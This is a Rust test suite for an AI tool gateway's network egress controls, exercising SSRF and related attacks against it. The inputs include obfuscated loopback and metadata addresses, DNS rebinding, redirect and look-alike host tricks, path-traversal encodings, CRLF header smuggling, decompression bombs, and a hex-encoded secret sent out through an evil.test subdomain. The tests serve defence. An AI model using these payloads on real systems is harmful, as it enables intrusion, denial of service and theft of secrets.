//! Attacks 1 to 17: addresses, names, redirects, requests and bodies that the egress must
//! not fall for.
#![expect(clippy::unwrap_used, clippy::disallowed_methods, reason = "a test may fail, and waits for real")]

use std::sync::Arc;
use std::time::{Duration, Instant};

use l9::Runtime;
use l9::gateway::{Gateway, Resolver as _, special};
use serde_json::{Value, json};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};

use super::world::{
    Called, PUBLIC, Server, Setup, World, answer, elsewhere, fetch, fetch_unguarded, net, ok, path, tool,
};

fn refused(called: &Called, server: &Server) {
    assert_eq!((called.code.as_str(), server.seen().len()), ("refused", 0), "{}", called.journal);
}

fn reached(called: &Called, server: &Server) {
    assert_eq!((called.code.as_str(), server.seen().len()), ("ok", 1), "{}", called.journal);
}

/// A name that leads to a special address is refused; without the rule it gets there.
async fn by_name(addresses: &[&str], why: &str) {
    let world = || Arc::new(World::of(&[("evil.test", addresses)]));
    let server = Server::start(|_| ok()).await;
    let called = fetch(tool("evil.test", server.port), &world()).await;
    refused(&called, &server);
    assert!(called.journal.contains(why), "{addresses:?} {}", called.journal);
    reached(&fetch_unguarded(tool("evil.test", server.port), &world()).await, &server);
}

#[tokio::test]
async fn attack_01_loopback_in_every_spelling() {
    for host in ["127.0.0.1", "2130706433", "0177.0.0.1", "017700000001", "0x7f.1", "0x7f000001", "127.1", "127.0.1"] {
        let server = Server::start(|_| ok()).await;
        let world = Arc::new(World::default());
        let mut manifest = tool(host, server.port);
        let called = fetch(manifest.clone(), &world).await;
        refused(&called, &server);
        assert!(called.journal.contains("127.0.0.1 is not a public address (loopback)"), "{}", called.journal);
        manifest["net"][0]["allow_private"] = json!(true);
        reached(&fetch(manifest, &world).await, &server);
    }
}

#[tokio::test]
async fn attack_02_ipv4_mapped_addresses() {
    by_name(&["::ffff:7f00:1"], "IPv4-mapped").await;
}

#[tokio::test]
async fn attack_03_nat64_addresses() {
    by_name(&["64:ff9b::7f00:1"], "NAT64").await;
    by_name(&["64:ff9b:1::a00:1"], "NAT64").await;
}

#[tokio::test]
async fn attack_04_tunnels_that_hold_an_ipv4_address() {
    by_name(&["2002:7f00:1::"], "6to4").await;
    by_name(&["2001:0:53aa:64c::1"], "Teredo").await;
    by_name(&["::7f00:1"], "IPv4-compatible").await;
}

#[tokio::test]
async fn attack_05_special_addresses_and_metadata() {
    for (address, why) in [
        ("100.64.0.1", "carrier-grade NAT"),
        ("198.18.0.1", "benchmarking"),
        ("240.0.0.1", "reserved"),
        ("0.0.0.0", "this network"),
        ("169.254.169.254", "link-local"),
        ("fd00:ec2::254", "unique local"),
        ("fe80::1", "link-local"),
        ("10.0.0.1", "private use"),
        ("224.0.0.1", "multicast"),
    ] {
        by_name(&[address], why).await;
    }
}

#[tokio::test]
async fn attack_06_rebinding_between_check_and_connection() {
    let public = Server::start(|_| ok()).await;
    let victim = Server::at(&format!("127.0.0.2:{}", public.port), |_| vec![(0, ok())]).await;
    let rebinding = || {
        let world = World::of(&[("evil.test", &[PUBLIC])]).then("evil.test", &["10.0.0.1"]);
        Arc::new(world.leading("10.0.0.1", "127.0.0.2"))
    };
    let world = rebinding();
    reached(&fetch(tool("evil.test", public.port), &world).await, &public);
    assert_eq!((world.asked().len(), victim.seen().len()), (1, 0), "looked up once, connected to what was looked at");
    let called = fetch(tool("evil.test", public.port), &world).await;
    assert_eq!(
        (called.code.as_str(), world.asked().len(), victim.seen().len()),
        ("refused", 2, 0),
        "{}",
        called.journal
    );
    // A client that checks one answer and connects to the next gets to the victim.
    let world = rebinding();
    assert!(world.resolve("evil.test").await.unwrap().into_iter().all(|address| special(address).is_none()));
    let address = world.route(world.resolve("evil.test").await.unwrap()[0]);
    let mut stream = tokio::net::TcpStream::connect((address, victim.port)).await.unwrap();
    stream.write_all(b"GET /api/x HTTP/1.1\r\n\r\n").await.unwrap();
    stream.read_to_end(&mut Vec::new()).await.unwrap();
    assert_eq!(victim.seen().len(), 1);
}

#[tokio::test]
async fn attack_07_public_and_private_addresses_in_one_answer() {
    for addresses in [[PUBLIC, "10.0.0.1"], ["10.0.0.1", PUBLIC], [PUBLIC, "::1"]] {
        by_name(&addresses, "is not a public address").await;
    }
}

/// A tool that may follow redirects to these hosts and ports.
fn following(host: &str, port: u16, redirects: u32, others: &[Value]) -> Value {
    let mut manifest = tool(host, port);
    manifest["net"][0]["redirects"] = json!(redirects);
    manifest["net"].as_array_mut().unwrap().extend(others.iter().cloned());
    manifest
}

fn points_elsewhere(called: &Called, victim: &Server) {
    assert_eq!((called.code.as_str(), victim.seen().len()), ("redirected", 0), "{}", called.journal);
}

#[tokio::test]
async fn attack_08_redirects_to_private_addresses_downwards_and_in_circles() {
    let world = || Arc::new(World::of(&[("a.test", &[PUBLIC]), ("inner.test", &["10.0.0.5"])]));
    let victim = Server::start(|_| ok()).await;
    let location = format!("http://inner.test:{}/api/x", victim.port);
    let hub = Server::start(move |_| elsewhere(&location)).await;
    let manifest = following("a.test", hub.port, 3, &[net("inner.test", victim.port)]);
    points_elsewhere(&fetch(manifest.clone(), &world()).await, &victim);
    let called = fetch_unguarded(manifest, &world()).await;
    assert_eq!((called.code.as_str(), victim.seen().len()), ("ok", 1), "{}", called.journal);

    let circle = Server::start(|request| elsewhere(if path(request) == "/api/x" { "/api/y" } else { "/api/x" })).await;
    let called = fetch(following("a.test", circle.port, 9, &[]), &world()).await;
    assert_eq!((called.code.as_str(), circle.seen().len()), ("redirected", 2), "{}", called.journal);
    assert!(called.journal.contains("leads in a circle"), "{}", called.journal);

    let steps = || async {
        Server::start(|request| match path(request) {
            "/api/x" => elsewhere("/api/2"),
            "/api/2" => elsewhere("3"),
            _ => ok(),
        })
        .await
    };
    for (redirects, code, requests) in [(0, "redirected", 1), (1, "redirected", 2), (2, "ok", 3)] {
        let chain = steps().await;
        let called = fetch(following("a.test", chain.port, redirects, &[]), &world()).await;
        assert_eq!((called.code.as_str(), chain.seen().len()), (code, requests), "{}", called.journal);
    }
}

#[tokio::test]
async fn attack_09_a_credential_does_not_follow_a_redirect() {
    let world = || Arc::new(World::of(&[("a.test", &[PUBLIC]), ("b.test", &[PUBLIC])]));
    let other = Server::start(|_| ok()).await;
    let location = format!("http://b.test:{}/api/y", other.port);
    let hub = Server::start(move |request| match path(request) {
        "/api/away" => elsewhere(&location),
        "/api/here" => elsewhere("/api/end"),
        _ => ok(),
    })
    .await;
    let call = async |to: &str| {
        let mut manifest = following("a.test", hub.port, 2, &[net("b.test", other.port)]);
        manifest["secrets"] = json!([{"handle": "key", "audience": "a.test", "inject": {"header": "authorization"}}]);
        let setup = Setup::new(manifest, Gateway::new(world())).secret("key", "Bearer hunter2-hunter2");
        setup.agent(&[json!({ "path": to })]).await
    };
    let called = call("away").await;
    assert_eq!((called.code.as_str(), other.seen().len()), ("ok", 1), "{}", called.journal);
    assert!(hub.seen()[0].contains("hunter2") && !other.seen()[0].contains("hunter2"), "{:?}", other.seen());
    // Within its own origin it goes along.
    assert_eq!(call("here").await.code, "ok");
    assert!(hub.seen().len() == 3 && hub.seen().iter().all(|request| request.contains("hunter2")), "{:?}", hub.seen());
}

#[tokio::test]
async fn attack_10_hosts_that_look_like_the_granted_one() {
    let evil = Server::start(|_| ok()).await;
    let port = evil.port;
    let looks = [
        format!("http://api.a.test@evil.test:{port}/api/x"),
        format!("http://api.a.test:{port}@evil.test:{port}/api/x"),
        format!("http://evil.test:{port}\\@api.a.test/api/x"),
        format!("http:\\\\evil.test:{port}\\api/x"),
        format!("//evil.test:{port}/api/x"),
        format!("http://api.a.test.:{port}/api/x"),
        format!("http://api.a.test.evil.test:{port}/api/x"),
        format!("http://evilapi.a.test:{port}/api/x"),
        format!("http://xn--pi-7ib.a.test:{port}/api/x"),
        format!("http://api.a.test%2eevil.test:{port}/api/x"),
        format!("http://evil.test:{port}#@api.a.test/api/x"),
        format!("http://evil.test:{port}?@api.a.test/api/x"),
    ];
    let names: &[(&str, &[&str])] = &[
        ("api.a.test", &[PUBLIC]),
        ("evil.test", &[PUBLIC]),
        ("api.a.test.evil.test", &[PUBLIC]),
        ("evilapi.a.test", &[PUBLIC]),
    ];
    for location in looks {
        let sent = location.clone();
        let hub = Server::start(move |_| elsewhere(&sent)).await;
        let world = Arc::new(World::of(names));
        let called = fetch(following("api.a.test", hub.port, 3, &[]), &world).await;
        points_elsewhere(&called, &evil);
        assert_eq!(world.asked(), ["api.a.test"], "{location}");
        // Nor can a manifest name it as it stands.
        let mut manifest = tool("api.a.test", hub.port);
        manifest["runtime"]["url"] = json!(location);
        let called = fetch(manifest, &world).await;
        assert_eq!((called.code.as_str(), evil.seen().len()), ("manifest", 0), "{location}");
    }
    let location = format!("http://evil.test:{port}/api/x");
    let hub = Server::start(move |_| elsewhere(&location)).await;
    let granted = following("api.a.test", hub.port, 3, &[net("evil.test", port)]);
    reached(&fetch(granted, &Arc::new(World::of(names))).await, &evil);
}

#[tokio::test]
async fn attack_11_another_port_or_a_path_beside_the_granted_one() {
    let world = || Arc::new(World::of(&[("a.test", &[PUBLIC])]));
    let victim = Server::start(|_| ok()).await;
    let location = format!("http://a.test:{}/api/x", victim.port);
    let hub = Server::start(move |_| elsewhere(&location)).await;
    points_elsewhere(&fetch(following("a.test", hub.port, 3, &[]), &world()).await, &victim);
    let granted = following("a.test", hub.port, 3, &[net("a.test", victim.port)]);
    reached(&fetch(granted, &world()).await, &victim);

    for to in [
        "/api-evil",
        "/apix/y",
        "/api/../admin",
        "/api/%2e%2e/admin",
        "/api/..%2fadmin",
        "/api/%252e%252e%252fadmin",
        "/api/..;/admin",
    ] {
        let hub = Server::start(move |request| if path(request) == "/api/x" { elsewhere(to) } else { ok() }).await;
        let called = fetch(following("a.test", hub.port, 3, &[]), &world()).await;
        assert_eq!((called.code.as_str(), hub.seen().len()), ("redirected", 1), "{to} {}", called.journal);
        let mut granted = following("a.test", hub.port, 3, &[]);
        granted["net"][0]["path_prefix"] = json!("/");
        let called = fetch(granted, &world()).await;
        assert_eq!((called.code.as_str(), hub.seen().len()), ("ok", 3), "{to} {}", called.journal);
    }
}

#[tokio::test]
async fn attack_12_line_breaks_and_absolute_addresses_in_arguments() {
    let smuggled = "x HTTP/1.1\r\nx-evil: 1\r\n\r\n";
    for argument in [smuggled, "http://evil.test/", "//evil.test/", "x\nx-evil: 1", "x?admin=1#y"] {
        let server = Server::start(|_| ok()).await;
        let world = Arc::new(World::of(&[("a.test", &[PUBLIC]), ("evil.test", &[PUBLIC])]));
        let setup = || Setup::new(tool("a.test", server.port), Gateway::new(Arc::<World>::clone(&world)));
        let called = setup().agent(&[json!({ "path": argument })]).await;
        assert_eq!(called.code, "ok", "{}", called.journal);
        let request = &server.seen()[0];
        assert!(!request.to_ascii_lowercase().lines().any(|line| line.starts_with("x-evil")), "{request}");
        assert!(path(request).starts_with("/api/") && path(request).matches('/').count() == 2, "{request}");
        assert!(!path(request).contains(['?', '#']), "{request}");
        assert_eq!(world.asked(), ["a.test"]);
    }
    let server = Server::start(|_| ok()).await;
    let call = async |more: &str| {
        let mut manifest = tool("a.test", server.port);
        manifest["runtime"]["headers"] = json!({"x-more": "{more}"});
        let gateway = Gateway::new(Arc::new(World::of(&[("a.test", &[PUBLIC])])));
        Setup::new(manifest, gateway).agent(&[json!({"path": "x", "more": more})]).await
    };
    for more in ["1\r\nx-evil: 1", "1\nx-evil: 1", "1\u{0}", "1\u{85}"] {
        assert_eq!((call(more).await.code.as_str(), server.seen().len()), ("invalid_input", 0));
    }
    assert_eq!(call("1").await.code, "ok");
    assert!(server.seen()[0].contains("x-more: 1"), "{:?}", server.seen());
    // Written as it is, the same argument is a header of its own.
    let mut stream = tokio::net::TcpStream::connect(("127.0.0.1", server.port)).await.unwrap();
    stream.write_all(format!("GET /api/{smuggled} HTTP/1.1\r\n\r\n").as_bytes()).await.unwrap();
    stream.read_to_end(&mut Vec::new()).await.unwrap();
    assert!(server.seen()[1].lines().any(|line| line.starts_with("x-evil")), "{:?}", server.seen());
}

/// None of these headers can be written by a tool, nor take a secret; another header can.
async fn headers_stay_the_hosts(names: &[&str], takes_secrets: bool) {
    let server = Server::start(|_| ok()).await;
    let world = Arc::new(World::of(&[("a.test", &[PUBLIC])]));
    let setup =
        |manifest| Setup::new(manifest, Gateway::new(Arc::<World>::clone(&world))).secret("key", "hunter2-hunter2");
    let go = [json!({"path": "x"})];
    let write = |name: &str| {
        let mut manifest = tool("a.test", server.port);
        manifest["runtime"]["headers"] = json!({ name: "l9" });
        manifest
    };
    let inject = |name: &str| {
        let mut manifest = tool("a.test", server.port);
        manifest["secrets"] = json!([{"handle": "key", "audience": "a.test", "inject": {"header": name}}]);
        manifest
    };
    for name in names {
        let called = setup(write(name)).agent(&go).await;
        assert_eq!((called.code.as_str(), server.seen().len()), ("manifest", 0), "{name} {}", called.journal);
        assert!(called.journal.contains(&format!("runtime.headers.{name}")), "{name} {}", called.journal);
        if !takes_secrets {
            let called = setup(inject(name)).agent(&go).await;
            assert_eq!((called.code.as_str(), server.seen().len()), ("manifest", 0), "{name} {}", called.journal);
        }
    }
    assert_eq!(setup(write("X-Lang")).agent(&go).await.code, "ok");
    assert!(server.seen()[0].contains("x-lang: l9"), "{:?}", server.seen());
    let free = if takes_secrets { names[0] } else { "x-key" };
    assert_eq!(setup(inject(free)).agent(&go).await.code, "ok");
    let line = format!("{}: hunter2-hunter2", free.to_ascii_lowercase());
    assert!(server.seen()[1].contains(&line), "{:?}", server.seen());
}

#[tokio::test]
async fn attack_13_headers_that_frame_a_request_or_prove_who_sends_it() {
    let framing = [
        "Host",
        "Transfer-Encoding",
        "Content-Length",
        "Connection",
        "TE",
        "Trailer",
        "Upgrade",
        "Expect",
        "Accept-Encoding",
    ];
    headers_stay_the_hosts(&framing, false).await;
    headers_stay_the_hosts(&["X-HTTP-Method-Override", "X-Original-URL"], false).await;
    // Credentials are secrets, which a grant allows.
    headers_stay_the_hosts(&["Authorization", "Cookie"], true).await;
}

#[tokio::test]
async fn attack_14_headers_of_proxies() {
    let proxies = [
        "Proxy-Authorization",
        "Proxy-Connection",
        "Forwarded",
        "Via",
        "X-Forwarded-For",
        "X-Forwarded-Host",
        "X-Forwarded-Proto",
        "X-Real-IP",
        "Max-Forwards",
    ];
    headers_stay_the_hosts(&proxies, false).await;
}

/// Ten megabytes of one byte as a Zstandard frame (RFC 8878) of blocks that repeat it.
fn zstd_bomb() -> Vec<u8> {
    let (block, blocks): (u32, u32) = (128 << 10, 80);
    let mut frame = vec![0x28, 0xb5, 0x2f, 0xfd, 0xa0];
    frame.extend((block * blocks).to_le_bytes());
    for at in 1..=blocks {
        let header = (block << 3) | (1 << 1) | u32::from(at == blocks);
        frame.extend(&header.to_le_bytes()[..3]);
        frame.push(b'0');
    }
    frame
}

#[tokio::test]
async fn attack_15_bodies_that_grow_and_bodies_without_end() {
    let world = || Arc::new(World::of(&[("a.test", &[PUBLIC])]));
    let gzip = include_bytes!("bombs/zeros.gz").to_vec();
    // What is not asked for is not decoded, whatever it would become.
    for (encoding, bomb) in
        [("gzip", gzip.clone()), ("br", vec![0x5b, 0xff, 0xff, 0xff]), ("zstd", zstd_bomb()), ("gzip, gzip", gzip)]
    {
        let labelled = bomb.clone();
        let headers = format!("content-type: text/plain\r\ncontent-encoding: {encoding}\r\n");
        let server = Server::start(move |_| answer(200, &headers, &labelled)).await;
        let called = fetch(tool("a.test", server.port), &world()).await;
        assert_eq!(called.code, "malformed", "{encoding} {}", called.journal);
        assert!(server.seen()[0].contains("accept-encoding: identity") && called.journal.len() < 100_000, "{encoding}");
        let server = Server::start(move |_| answer(200, "content-type: text/plain\r\n", &bomb)).await;
        assert_eq!(fetch(tool("a.test", server.port), &world()).await.code, "ok", "{encoding}");
    }
    let size = |bytes: usize| Server::start(move |_| answer(200, "content-type: text/plain\r\n", vec![b'0'; bytes]));
    let (large, small) = (size(1 << 20).await, size(1 << 10).await);
    let called = fetch(tool("a.test", large.port), &world()).await;
    assert_eq!(called.code, "limit.output", "{}", called.journal);
    // It ended while it was read, and was not read whole and found too long then.
    assert!(called.journal.contains("sent more than 20000 bytes"), "{}", called.journal);
    assert_eq!(fetch(tool("a.test", small.port), &world()).await.code, "ok");

    let drip = |pieces: usize| {
        Server::at("127.0.0.1:0", move |_| {
            let head = b"HTTP/1.1 200 OK\r\ncontent-type: text/plain\r\nconnection: close\r\n\r\n".to_vec();
            std::iter::once((0, head)).chain((0..pieces).map(|_| (20, vec![b'0']))).collect()
        })
    };
    let (endless, ending) = (drip(100_000).await, drip(3).await);
    let mut manifest = tool("a.test", endless.port);
    manifest["limits"]["wall_ms"] = json!(1_000);
    let began = Instant::now();
    let called = fetch(manifest, &world()).await;
    // The body alone would take more than half an hour.
    assert_eq!(called.code, "unavailable", "{}", called.journal);
    assert!(began.elapsed() < Duration::from_secs(120), "{:?}", began.elapsed());
    assert_eq!(fetch(tool("a.test", ending.port), &world()).await.code, "ok");
}

#[tokio::test]
async fn attack_16_words_carried_out_in_names() {
    let spelled = "68756e74657232.evil.test";
    let names: &[(&str, &[&str])] = &[("a.test", &[PUBLIC]), (spelled, &[PUBLIC])];
    let listener = Server::start(|_| ok()).await;
    let location = format!("http://{spelled}:{}/api/x", listener.port);
    let hub = Server::start(move |_| elsewhere(&location)).await;
    let world = Arc::new(World::of(names));
    points_elsewhere(&fetch(following("a.test", hub.port, 3, &[]), &world).await, &listener);
    assert_eq!(world.asked(), ["a.test"], "a name that is not granted is never looked up");
    let world = Arc::new(World::of(names));
    let granted = following("a.test", hub.port, 3, &[net(spelled, listener.port)]);
    reached(&fetch(granted, &world).await, &listener);
    assert_eq!(world.asked(), ["a.test", spelled]);
    // Nor can an argument stand in a name.
    let mut manifest = tool("a.test", hub.port);
    manifest["runtime"]["url"] = json!(format!("http://{{path}}.evil.test:{}/api/x", listener.port));
    assert_eq!(fetch(manifest, &world).await.code, "manifest");
}

#[tokio::test]
async fn attack_17_raw_sockets() {
    use l9::digest::sha256;

    let load = async |bytes: Vec<u8>| {
        let manifest = json!({
            "schema_version": 1, "id": "calc/socket", "version": "1.0.0", "title": "Socket", "effect": "pure",
            "description": "Opens a socket.", "input_schema": {"type": "object"},
            "runtime": {"kind": "wasm", "module": {"sha256": sha256(&[bytes.as_slice()]), "size": bytes.len(), "world": "l9:tool/tool@0.1.0"}},
        });
        let manifest = serde_json::from_value(manifest).unwrap();
        Runtime::builder()
            .in_memory()
            .wasm_tool(manifest, bytes)
            .build()
            .await
            .map(drop)
            .map_err(|error| error.to_string())
    };
    for import in [
        "wasi:sockets/tcp@0.2.0",
        "wasi:sockets/tcp-create-socket@0.2.0",
        "wasi:sockets/udp@0.2.0",
        "wasi:sockets/ip-name-lookup@0.2.0",
        "wasi:sockets/instance-network@0.2.0",
        "wasi:http/outgoing-handler@0.2.0",
    ] {
        let guest = wat::parse_str(format!(r#"(component (import "{import}" (instance)))"#)).unwrap();
        let error = load(guest).await.unwrap_err();
        assert!(error.contains(&format!("imports {import}")), "{error}");
    }
    // The guest that computes imports none of them, and loads.
    load(include_bytes!("../../l9-tools/guests/dist/calc.wasm").to_vec()).await.unwrap();
}
